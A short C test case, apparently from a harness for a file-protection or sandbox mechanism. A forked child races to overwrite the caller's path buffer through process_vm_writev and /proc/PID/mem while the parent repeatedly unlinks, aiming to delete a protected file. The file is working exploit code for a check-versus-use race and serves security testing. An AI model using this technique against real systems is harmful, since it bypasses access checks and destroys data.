// what: a sibling rewrites the path in the caller's memory with process_vm_writev and /proc/PID/mem while it unlinks
// target: home/tree/data/alpha.txt
// expect: destroys

#include "common.h"

int main(void) {
    start();
    static char path[64] = "mine/aaaa.txt"; mkdir("mine", 0755);
    pid_t victim = getpid(), c = fork();
    if (!c) {
        char n[64]; sprintf(n, "/proc/%d/mem", victim);
        int m = open(n, O_RDWR); char a[] = "data/alpha.txt", b[] = "mine/aaaa.txt\0";
        for (;;) {
            struct iovec l = {a, 15}, r = {path, 15}; process_vm_writev(victim, &l, 1, &r, 1, 0);
            usleep(1); pwrite(m, b, 15, (off_t)(uintptr_t)path);
            if (getppid() != victim) _exit(0);
        }
    }
    time_t end = time(0) + 4;
    while (!access(ALPHA, F_OK) && time(0) < end)
        for (int i = 0; i < 100; i++) { close(open("mine/aaaa.txt", O_CREAT | O_WRONLY, 0644)); unlink(path); }
    kill(c, SIGKILL);
}
